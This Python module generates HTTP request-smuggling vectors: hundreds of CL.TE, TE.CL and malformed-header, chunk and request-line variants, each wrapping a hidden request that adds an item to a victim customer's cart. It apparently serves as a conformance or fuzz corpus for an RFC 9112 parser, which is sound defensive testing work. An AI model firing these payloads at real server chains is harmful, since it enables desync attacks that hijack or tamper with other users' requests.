# SPDX-License-Identifier: Apache-2.0
"""Requests with another one hidden inside, which somebody might take for a request of its own.

Each vector is the bytes of one request (or of none, when it is malformed) around HIDDEN: a change
of a victim's cart. Whoever reads the vector as RFC 9112 does never runs it. `vectors(hidden)` puts
them together: {name: bytes}.
"""

HOST = b"Host: shop.example\r\n"
HEAD = b"POST /v1/availability HTTP/1.1\r\n" + HOST + b"Content-Type: application/json\r\n"
LAST = b"0\r\n\r\n"


def hidden(sku, victim):
    """Puts one unit of a SKU into the cart of a victim, when it is ever run."""
    body = b'{"quantity":1}'
    return (f"PUT /v1/cart/items/{sku} HTTP/1.1\r\nHost: shop.example\r\n"
            f"X-Customer-Id: {victim}\r\nContent-Type: application/json\r\n"
            f"Content-Length: {len(body)}\r\n\r\n").encode() + body


def chunk(data):
    return b"%x\r\n" % len(data) + data + b"\r\n"


# Lines that some read as Transfer-Encoding: chunked and some do not. "CHUNKED" alone is one.
ENCODINGS = {
    "plain": b"Transfer-Encoding: chunked",
    "upper_case_value": b"Transfer-Encoding: CHUNKED",
    "odd_case_name": b"tRaNsFeR-eNcOdInG: chunked",
    "no_space": b"Transfer-Encoding:chunked",
    "tabs_around": b"Transfer-Encoding:\tchunked\t",
    "space_before_colon": b"Transfer-Encoding : chunked",
    "tab_before_colon": b"Transfer-Encoding\t: chunked",
    "space_before_name": b" Transfer-Encoding: chunked",
    "tab_before_name": b"\tTransfer-Encoding: chunked",
    "prefixed": b"Transfer-Encoding: xchunked",
    "suffixed": b"Transfer-Encoding: chunkedx",
    "cut": b"Transfer-Encoding: chunk",
    "parameter": b"Transfer-Encoding: chunked;q=1",
    "identity": b"Transfer-Encoding: identity",
    "before_identity": b"Transfer-Encoding: chunked, identity",
    "behind_identity": b"Transfer-Encoding: identity, chunked",
    "behind_gzip": b"Transfer-Encoding: gzip, chunked",
    "twice_in_a_list": b"Transfer-Encoding: chunked, chunked",
    "comma_before": b"Transfer-Encoding: ,chunked",
    "comma_behind": b"Transfer-Encoding: chunked,",
    "two_words": b"Transfer-Encoding: chunked chunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "single_quoted": b"Transfer-Encoding: 'chunked'",
    "empty": b"Transfer-Encoding:",
    "vertical_tab_before": b"Transfer-Encoding:\x0bchunked",
    "form_feed_before": b"Transfer-Encoding:\x0cchunked",
    "vertical_tab_behind": b"Transfer-Encoding: chunked\x0b",
    "nul_behind": b"Transfer-Encoding: chunked\x00",
    "nul_before": b"Transfer-Encoding: \x00chunked",
    "nul_in_name": b"Transfer-Encoding\x00: chunked",
    "high_byte": b"Transfer-Encoding: \xa0chunked",
    "accented": b"Transfer-Encoding: chu\xc3\xb1ked",
    "folded": b"Transfer-Encoding:\r\n chunked",
    "folded_by_tab": b"Transfer-Encoding: \r\n\tchunked",
    "in_a_folded_line": b"X-A: b\r\n Transfer-Encoding: chunked",
    "behind_line_feed": b"X-A: b\nTransfer-Encoding: chunked",
    "behind_carriage_return": b"X-A: b\rTransfer-Encoding: chunked",
    "two_carriage_returns": b"Transfer-Encoding: chunked\r",
    "line_feed_in_name": b"Transfer-\nEncoding: chunked",
    "twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "then_identity": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "after_identity": b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "after_nonsense": b"Transfer-Encoding: cow\r\nTransfer-Encoding: chunked",
    "semicolon_in_name": b"Transfer-Encoding;: chunked",
    "comment_in_name": b"Transfer-Encoding(x): chunked",
    "control_before_name": b"\x00Transfer-Encoding: chunked",
    "high_byte_before_name": b"\xffTransfer-Encoding: chunked",
    "no_colon": b"Transfer-Encoding chunked",
}


def encodings(victim):
    """CL.TE, TE.CL and TE alone, for each way to write the line."""
    found = {}
    first = LAST + victim
    whole = chunk(victim) + LAST
    for name, line in ENCODINGS.items():
        length = b"Content-Length: %d\r\n"
        found[f"cl_te_{name}"] = HEAD + length % len(first) + line + b"\r\n\r\n" + first
        found[f"te_cl_{name}"] = HEAD + line + b"\r\n" + length % 4 + b"\r\n" + whole
        found[f"te_{name}"] = HEAD + line + b"\r\n\r\n" + whole
    # To whom this is another field, it has a length and the rest is body.
    found["cl_te_underscore"] = (HEAD + b"Transfer_Encoding: chunked\r\nContent-Length: %d\r\n\r\n"
                                 % len(first) + first)
    found["cl_te_in_http_1_0"] = (HEAD.replace(b"1.1", b"1.0") + b"Transfer-Encoding: chunked\r\n"
                                  b"Content-Length: %d\r\n\r\n" % len(first) + first)
    found["te_in_http_1_0"] = (HEAD.replace(b"1.1", b"1.0") + b"Connection: keep-alive\r\n"
                               b"Transfer-Encoding: chunked\r\n\r\n" + whole)
    found["te_cl_in_a_get"] = (b"GET /livez HTTP/1.1\r\n" + HOST +
                               b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n" + whole)
    return found


# Lines with a length that is N to some, and 0 or nothing to others. N is the hidden request's size.
LENGTHS = {
    "plus": b"Content-Length: +{N}",
    "minus": b"Content-Length: -{N}",
    "hexadecimal": b"Content-Length: 0x{N}",
    "fraction": b"Content-Length: {N}.0",
    "exponent": b"Content-Length: {N}e0",
    "underscore": b"Content-Length: 0_{N}",
    "comma_same": b"Content-Length: {N}, {N}",
    "comma_first_zero": b"Content-Length: 0, {N}",
    "comma_last_zero": b"Content-Length: {N},0",
    "comma_behind": b"Content-Length: {N},",
    "two_words": b"Content-Length: 0 {N}",
    "semicolon": b"Content-Length: {N};",
    "quoted": b'Content-Length: "{N}"',
    "empty": b"Content-Length:",
    "letters": b"Content-Length: {N}x",
    "nul_behind": b"Content-Length: {N}\x00",
    "nul_in_between": b"Content-Length: 0\x00{N}",
    "vertical_tab": b"Content-Length:\x0b{N}",
    "high_byte": b"Content-Length: \xa0{N}",
    "arabic_digits": "Content-Length: \u0661".encode(),
    "space_before_colon": b"Content-Length : {N}",
    "tab_before_colon": b"Content-Length\t: {N}",
    "space_before_name": b" Content-Length: {N}",
    "folded": b"Content-Length:\r\n {N}",
    "folded_digits": b"Content-Length: 0\r\n {N}",
    "twice": b"Content-Length: {N}\r\nContent-Length: {N}",
    "first_zero": b"Content-Length: 0\r\nContent-Length: {N}",
    "last_zero": b"Content-Length: {N}\r\nContent-Length: 0",
    "other_case_twice": b"content-length: 0\r\nCONTENT-LENGTH: {N}",
    "second_with_space": b"Content-Length: 0\r\nContent-Length : {N}",
    "second_folded_away": b"Content-Length: {N}\r\nX-A: b\r\n Content-Length: 0",
    "behind_line_feed": b"Content-Length: 0\r\nX-A: b\nContent-Length: {N}",
    "behind_carriage_return": b"Content-Length: 0\r\nX-A: b\rContent-Length: {N}",
    "carriage_return": b"Content-Length: {N}\r",
    "nul_in_name": b"Content-Length\x00: {N}",
    "no_colon": b"Content-Length {N}",
    "over_64_bits": b"Content-Length: 18446744073709551616",
    "over_64_bits_and_n": b"Content-Length: 1844674407370955161{N}",
    "over_32_bits": b"Content-Length: 4294967296",
    "endless": b"Content-Length: " + b"9" * 400,
    "leading_zeros": b"Content-Length: 0000000000000{N}",
    "listed_in_connection": b"Connection: Content-Length\r\nContent-Length: {N}",
    "listed_in_connection_with_close": b"Connection: close, content-length\r\nContent-Length: {N}",
    "listed_host": b"Connection: Host\r\nContent-Length: {N}",
}


def lengths(victim):
    size = b"%d" % len(victim)
    return {f"length_{name}": HEAD + line.replace(b"{N}", size) + b"\r\n\r\n" + victim
            for name, line in LENGTHS.items()}


# Bodies in chunks that end before the hidden request for some, and are malformed for us.
CHUNKS = {
    "space_behind_size": b"0 \r\n\r\n",
    "tab_behind_size": b"0\t\r\n\r\n",
    "space_before_size": b" 0\r\n\r\n",
    "plus": b"+0\r\n\r\n",
    "minus": b"-0\r\n\r\n",
    "hexadecimal_mark": b"0x0\r\n\r\n",
    "no_size": b"\r\n\r\n",
    "no_digit": b"g\r\n\r\n",
    "underscore": b"0_0\r\n\r\n",
    "two_sizes": b"0 0\r\n\r\n",
    "comma": b"0,0\r\n\r\n",
    "fraction": b"0.0\r\n\r\n",
    "nul_behind_size": b"0\x00\r\n\r\n",
    "line_feed_alone": b"0\n\r\n",
    "line_feeds_alone": b"0\n\n",
    "last_line_feed_alone": b"0\r\n\n",
    "carriage_return_alone": b"0\r\r\n\r\n",
    "carriage_return_at_the_end": b"0\r\n\rX\r\n\r\n",
    "empty_extension": b"0;\r\n\r\n",
    "extension_with_line_feed": b"0;a\n\r\n\r\n",
    "extension_with_carriage_return": b"0;a\rb\r\n\r\n",
    "extension_with_nul": b"0;\x00\r\n\r\n",
    "extension_with_open_quote": b'0;a="\r\n\r\n',
    "extension_with_quoted_line_feed": b'0;a="\n"\r\n\r\n',
    "extension_with_escaped_line_end": b'0;a="\\\r\n"\r\n\r\n',
    "extension_without_value": b"0;a=\r\n\r\n",
    "extension_with_space": b"0;a b\r\n\r\n",
    "over_32_bits": b"100000000\r\n\r\n",
    "over_64_bits": b"10000000000000000\r\n\r\n",
    "all_ones": b"ffffffffffffffff\r\n\r\n",
    "endless_size": b"f" * 300 + b"\r\n\r\n",
    "longer_than_said": b"1\r\nab\r\n0\r\n\r\n",
    "shorter_than_said": b"5\r\nab\r\n0\r\n\r\n",
    "no_line_end_behind_data": b"1\r\na0\r\n\r\n",
    "line_feed_behind_data": b"1\r\na\n0\r\n\r\n",
    "carriage_return_behind_data": b"1\r\na\r0\r\n\r\n",
    "empty_line_between": b"1\r\na\r\n\r\n0\r\n\r\n",
    "trailer_content_length": b"0\r\nContent-Length: 0\r\n\r\n",
    "trailer_transfer_encoding": b"0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "trailer_host": b"0\r\nHost: other\r\n\r\n",
    "trailer_customer": b"0\r\nX-Customer-Id: eve\r\n\r\n",
    "trailer_folded": b"0\r\nX-A: b\r\n c\r\n\r\n",
    "trailer_without_colon": b"0\r\nX-A\r\n\r\n",
    "trailer_with_space": b"0\r\nX-A : b\r\n\r\n",
    "trailer_with_line_feed": b"0\r\nX-A: b\n\r\n",
    "request_as_trailers": b"0\r\n",
}


def chunks(victim):
    return {f"chunk_{name}": HEAD + b"Transfer-Encoding: chunked\r\n\r\n" + body + victim
            for name, body in CHUNKS.items()}


# Heads with a body of N bytes behind them. To some there is no body, or the head ends elsewhere.
HEADS = {
    "get_with_body": b"GET /livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "head_with_body": b"HEAD /livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "get_expects": b"GET /livez HTTP/1.1\r\nHOSTExpect: 100-continue\r\nLENGTH\r\n",
    "options_with_body": b"OPTIONS /livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "options_asterisk": b"OPTIONS * HTTP/1.1\r\nHOSTLENGTH\r\n",
    "delete_with_body": b"DELETE /v1/cart HTTP/1.1\r\nHOSTLENGTH\r\n",
    "patch_with_body": b"PATCH /livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "trace_with_body": b"TRACE /livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "connect_with_body": b"CONNECT shop.example:80 HTTP/1.1\r\nHOSTLENGTH\r\n",
    "unknown_method": b"STEAL /livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "lower_case_method": b"post /livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "method_with_nul": b"POST\x00 /livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "method_with_space": b"PO ST /livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "method_with_colon": b"POST: /livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "upgrade_h2c":
        b"POST /v1/availability HTTP/1.1\r\nHOSTConnection: Upgrade, HTTP2-Settings\r\n"
        b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\nLENGTH\r\n",
    "upgrade_websocket":
        b"POST /v1/availability HTTP/1.1\r\nHOSTConnection: Upgrade\r\nUpgrade: websocket\r\n"
        b"Sec-WebSocket-Version: 13\r\nLENGTH\r\n",
    "preface_of_http_2": b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
    "expect_twice": b"POST /livez HTTP/1.1\r\nHOSTExpect: 100-continue\r\n"
                    b"Expect: 100-continue\r\nLENGTH\r\n",
    "expect_list": b"POST /livez HTTP/1.1\r\nHOSTExpect: 100-continue, x\r\nLENGTH\r\n",
    "expect_unknown": b"POST /livez HTTP/1.1\r\nHOSTExpect: y 100-continue\r\nLENGTH\r\n",
    "expect_in_http_1_0":
        b"POST /v1/availability HTTP/1.0\r\nHOSTExpect: 100-continue\r\nLENGTH\r\n",
    "host_twice": b"POST /livez HTTP/1.1\r\nHOSTHost: other\r\nLENGTH\r\n",
    "host_missing": b"POST /livez HTTP/1.1\r\nLENGTH\r\n",
    "host_empty": b"POST /livez HTTP/1.1\r\nHost:\r\nLENGTH\r\n",
    "host_with_space": b"POST /livez HTTP/1.1\r\nHost: shop other\r\nLENGTH\r\n",
    "host_with_comma": b"POST /livez HTTP/1.1\r\nHost: shop,other\r\nLENGTH\r\n",
    "host_with_slash": b"POST /livez HTTP/1.1\r\nHost: shop/other\r\nLENGTH\r\n",
    "host_with_user": b"POST /livez HTTP/1.1\r\nHost: me@shop\r\nLENGTH\r\n",
    "host_folded": b"POST /livez HTTP/1.1\r\nHost:\r\n shop\r\nLENGTH\r\n",
    "host_space_before_colon": b"POST /livez HTTP/1.1\r\nHost : shop\r\nLENGTH\r\n",
    "absolute_with_other_host":
        b"POST http://other.example/v1/availability HTTP/1.1\r\nHOSTLENGTH\r\n",
    "absolute_with_user": b"POST http://me@shop.example/livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "absolute_without_host": b"POST http:///livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "target_without_slash": b"POST livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "target_with_fragment": b"POST /livez#x HTTP/1.1\r\nHOSTLENGTH\r\n",
    "target_with_nul": b"POST /li\x00vez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "target_with_space": b"POST /li vez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "target_with_tab": b"POST /li\tvez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "target_with_high_byte": b"POST /li\xffvez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "target_with_line_feed": b"POST /li\nvez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "target_with_carriage_return": b"POST /li\rvez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "target_with_encoded_line_end":
        b"POST /livez%20HTTP/1.1%0d%0aContent-Length:%200%0d%0a%0d%0a HTTP/1.1\r\nHOSTLENGTH\r\n",
    "target_with_bad_escape": b"POST /livez%0 HTTP/1.1\r\nHOSTLENGTH\r\n",
    "two_spaces": b"POST  /livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "tabs_between": b"POST\t/livez\tHTTP/1.1\r\nHOSTLENGTH\r\n",
    "version_missing": b"POST /livez\r\nHOSTLENGTH\r\n",
    "version_twice": b"POST /livez HTTP/1.1 HTTP/1.0\r\nHOSTLENGTH\r\n",
    "version_with_space": b"POST /livez HTTP/1.1 \r\nHOSTLENGTH\r\n",
    "version_0_9": b"POST /livez HTTP/0.9\r\nHOSTLENGTH\r\n",
    "version_2": b"POST /livez HTTP/2.0\r\nHOSTLENGTH\r\n",
    "version_11": b"POST /livez HTTP/1.11\r\nHOSTLENGTH\r\n",
    "version_in_lower_case": b"POST /livez http/1.1\r\nHOSTLENGTH\r\n",
    "version_of_another": b"POST /livez ICAP/1.1\r\nHOSTLENGTH\r\n",
    "line_feed_behind_line": b"POST /livez HTTP/1.1\nHOSTLENGTH\r\n",
    "line_feeds_only": b"POST /livez HTTP/1.1\nHost: x\n\n",
    "head_ended_by_line_feeds": b"POST /livez HTTP/1.1\r\nHOSTX-A: b\n\n",
    "head_ended_by_one_line_feed": b"POST /livez HTTP/1.1\r\nHOSTX-A: b\r\n\n",
    "head_ended_by_carriage_returns": b"POST /livez HTTP/1.1\r\nHOSTX-A: b\r\r",
    "head_ended_by_cr_cr_lf": b"POST /livez HTTP/1.1\r\nHOSTX-A: b\r\n\r\r\n",
    "head_ended_behind_space": b"POST /livez HTTP/1.1\r\nHOSTX-A: b\r\n \r\n",
    "nul_in_a_value": b"POST /livez HTTP/1.1\r\nHOSTX-A: b\x00\r\nLENGTH\r\n",
    "nul_in_a_name": b"POST /livez HTTP/1.1\r\nHOSTX\x00A: b\r\nLENGTH\r\n",
    "name_missing": b"POST /livez HTTP/1.1\r\nHOST: b\r\nLENGTH\r\n",
    "colon_missing": b"POST /livez HTTP/1.1\r\nHOSTX-A\r\nLENGTH\r\n",
    "high_byte_in_a_name": b"POST /livez HTTP/1.1\r\nHOSTX-\xc3\xa9: b\r\nLENGTH\r\n",
    "request_line_as_field": b"POST /livez HTTP/1.1\r\nHOSTGET /x HTTP/1.1\r\nLENGTH\r\n",
    "two_empty_lines_before": b"\r\n\r\nPOST /livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "line_feed_before": b"\nPOST /livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "space_before": b" POST /livez HTTP/1.1\r\nHOSTLENGTH\r\n",
    "customer_twice":
        b"POST /livez HTTP/1.1\r\nHOSTX-Customer-Id: a\r\nX-Customer-Id: b\r\nLENGTH\r\n",
    "connection_names_customer":
        b"POST /livez HTTP/1.1\r\nHOSTConnection: X-Customer-Id\r\nLENGTH\r\n",
    "keep_alive_in_http_1_0":
        b"POST /v1/availability HTTP/1.0\r\nHOSTConnection: keep-alive\r\nLENGTH\r\n",
}


def heads(victim):
    length = b"Content-Length: %d\r\n" % len(victim)
    return {f"head_{name}": head.replace(b"HOST", HOST).replace(b"LENGTH", length) + victim
            for name, head in HEADS.items()}


def vectors(victim):
    return {**encodings(victim), **lengths(victim), **chunks(victim), **heads(victim)}
